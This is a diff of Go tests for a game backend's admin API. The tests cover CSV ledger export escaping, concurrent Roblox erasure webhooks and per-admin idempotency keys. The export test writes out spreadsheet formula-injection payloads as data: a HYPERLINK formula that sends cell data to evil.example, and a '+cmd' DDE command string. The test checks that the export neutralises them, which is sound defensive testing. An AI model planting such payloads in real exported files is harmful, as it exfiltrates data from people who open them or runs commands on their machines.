@@ -9,6 +9,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -367,5 +368,141 @@ func TestRobloxErasureWebhook(t *testing.T) {
 	r := e.call("POST", "/v1/webhooks/roblox", "", sample, "Roblox-Signature", handlers.SignRobloxWebhook(sample, webhookSecret, time.Now()))
 	if r.status != http.StatusOK || r.object(t)["ignored"] != true {
 		t.Errorf("other event type: %d %s, want it acknowledged and ignored", r.status, r.body)
+	}
+}
+
+func TestLedgerExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	e := newAdminEnv(t)
+	const userID = 8601
+	hyperlink := `=HYPERLINK("https://evil.example/?d="&A1,"click")`
+	e.serverMutate(userID, `@SUM(A1:A9)`, `{"reason":`+mustJSON(t, hyperlink)+`,"ops":[{"op":"currency.add","currency":"coins","amount":-5}]}`)
+	e.serverMutate(userID, "-2+3", `{"reason":"-5","ops":[{"op":"currency.add","currency":"coins","amount":7}]}`)
+	e.serverMutate(userID, "k-3", `{"reason":"+cmd|' /C calc'!A0","ops":[{"op":"settings.set","key":"music","value":false}]}`)
+	e.serverMutate(userID, "k-4", "{\"reason\":\"\\tindented\\r\",\"ops\":[{\"op\":\"settings.set\",\"key\":\"music\",\"value\":true}]}")
+
+	r := e.call("GET", fmt.Sprintf("/v1/admin/players/%d/ledger?format=csv", userID), e.support.IDToken, nil)
+	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if err != nil || r.status != http.StatusOK || len(rows) != 5 {
+		t.Fatalf("csv export: %d %v %q", r.status, err, r.body)
+	}
+	col := map[string]int{}
+	for i, name := range rows[0] {
+		col[name] = i
+	}
+	type cells struct{ Version, Key, Reason, Ops string }
+	var got []cells
+	for _, row := range rows[1:] {
+		got = append(got, cells{row[col["version"]], row[col["idempotencyKey"]], row[col["reason"]], row[col["ops"]]})
+	}
+	want := []cells{
+		{"4", "k-4", "'\tindented\r", `[{"key":"music","op":"settings.set","value":true}]`},
+		{"3", "k-3", "'+cmd|' /C calc'!A0", `[{"key":"music","op":"settings.set","value":false}]`},
+		{"2", "'-2+3", "-5", `[{"amount":7,"currency":"coins","op":"currency.add"}]`},
+		{"1", "'@SUM(A1:A9)", "'" + hyperlink, `[{"amount":-5,"currency":"coins","op":"currency.add"}]`},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("exported cells, newest first (-want +got):\n%s", diff)
+	}
+	// The JSON page is data, not a spreadsheet: it keeps the values as sent.
+	r = e.call("GET", fmt.Sprintf("/v1/admin/players/%d/ledger?idempotencyKey=k-3", userID), e.support.IDToken, nil)
+	if !strings.Contains(string(r.body), `"reason":"+cmd|' /C calc'!A0"`) {
+		t.Errorf("JSON search changed the reason: %s", r.body)
+	}
+}
+
+// mustJSON encodes v as JSON text.
+func mustJSON(t *testing.T, v any) string {
+	t.Helper()
+	b, err := json.Marshal(v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+func TestErasureWebhookUnderConcurrentDeliveries(t *testing.T) {
+	t.Parallel()
+	e := newAdminEnv(t)
+	const userID, deliveries = 8701, 50
+	e.serverMutate(userID, "k1", `{"ops":[{"op":"currency.add","currency":"coins","amount":5}]}`)
+	body := []byte(fmt.Sprintf(`{"NotificationId":"n-8701","EventType":"RightToErasureRequest","EventTime":"2026-03-01T10:00:00Z","EventPayload":{"UserId":%d,"GameIds":[1]}}`, userID))
+	sig := handlers.SignRobloxWebhook(body, webhookSecret, time.Now())
+
+	replies := make([]adminReply, deliveries)
+	var wg sync.WaitGroup
+	for i := range replies {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			replies[i] = e.call("POST", "/v1/webhooks/roblox", "", body, "Roblox-Signature", sig)
+		}()
+	}
+	wg.Wait()
+	erasers, duplicates := 0, 0
+	var record any
+	for i, r := range replies {
+		if r.status != http.StatusOK {
+			t.Fatalf("delivery %d: %d %s", i, r.status, r.body)
+		}
+		got := r.object(t)
+		if record == nil {
+			record = got["recordId"]
+		}
+		if got["recordId"] != record {
+			t.Errorf("delivery %d names record %v, want %v like the others", i, got["recordId"], record)
+		}
+		deleted, _ := got["deleted"].(map[string]any)
+		switch got["alreadyErased"] {
+		case false:
+			erasers++
+			if deleted["players"] != 1.0 || deleted["ledgerEntries"] != 1.0 {
+				t.Errorf("the erasing delivery deleted %v, want the player and its entry", deleted)
+			}
+		case true:
+			duplicates++
+			if diff := cmp.Diff(map[string]any{"players": 0.0, "ledgerEntries": 0.0, "other": 0.0, "links": 0.0, "linkCodes": 0.0}, deleted); diff != "" {
+				t.Errorf("a duplicate delivery deleted something (-want +got):\n%s", diff)
+			}
+		default:
+			t.Errorf("delivery %d: alreadyErased = %v", i, got["alreadyErased"])
+		}
+	}
+	if erasers != 1 || duplicates != deliveries-1 {
+		t.Errorf("%d deliveries answered as the eraser and %d as duplicates, want 1 and %d", erasers, duplicates, deliveries-1)
+	}
+	if p, err := e.store.GetPlayer(context.Background(), userID); err != nil || p.Version != 0 {
+		t.Errorf("player after erasure = %+v, %v; want a fresh save at version 0", p, err)
+	}
+}
+
+func TestAdminErasureKeysAreScopedByAdmin(t *testing.T) {
+	t.Parallel()
+	e := newAdminEnv(t)
+	const userID = 8801
+	other := staff(t, handlers.RoleAdmin)
+	path := fmt.Sprintf("/v1/admin/players/%d", userID)
+	e.serverMutate(userID, "k1", `{"ops":[{"op":"currency.add","currency":"coins","amount":5}]}`)
+
+	first := e.call("DELETE", path, e.admin.IDToken, nil, "Idempotency-Key", "erase-K")
+	if first.status != http.StatusOK || first.object(t)["alreadyErased"] != false || first.header.Get("Idempotent-Replayed") != "" {
+		t.Fatalf("admin A erases: %d %s (replayed %q)", first.status, first.body, first.header.Get("Idempotent-Replayed"))
+	}
+	// The game server, still holding the player, writes again.
+	e.serverMutate(userID, "k2", `{"ops":[{"op":"currency.add","currency":"coins","amount":7}]}`)
+
+	second := e.call("DELETE", path, other.IDToken, nil, "Idempotency-Key", "erase-K")
+	got := second.object(t)
+	deleted, _ := got["deleted"].(map[string]any)
+	if second.status != http.StatusOK || got["alreadyErased"] != false || deleted["players"] != 1.0 || second.header.Get("Idempotent-Replayed") != "" {
+		t.Errorf("admin B with the same key: %d %s (replayed %q), want the new data erased", second.status, second.body, second.header.Get("Idempotent-Replayed"))
+	}
+	if p, err := e.store.GetPlayer(context.Background(), userID); err != nil || p.Version != 0 {
+		t.Errorf("player after admin B's erasure = version %d, %v; want the new write gone", p.Version, err)
+	}
+
+	replay := e.call("DELETE", path, e.admin.IDToken, nil, "Idempotency-Key", "erase-K")
+	if replay.status != http.StatusOK || replay.header.Get("Idempotent-Replayed") != "true" || !bytes.Equal(replay.body, first.body) {
+		t.Errorf("admin A replays the key: %d replayed=%q %s, want 200, replayed, the first answer %s", replay.status, replay.header.Get("Idempotent-Replayed"), replay.body, first.body)
 	}
 }
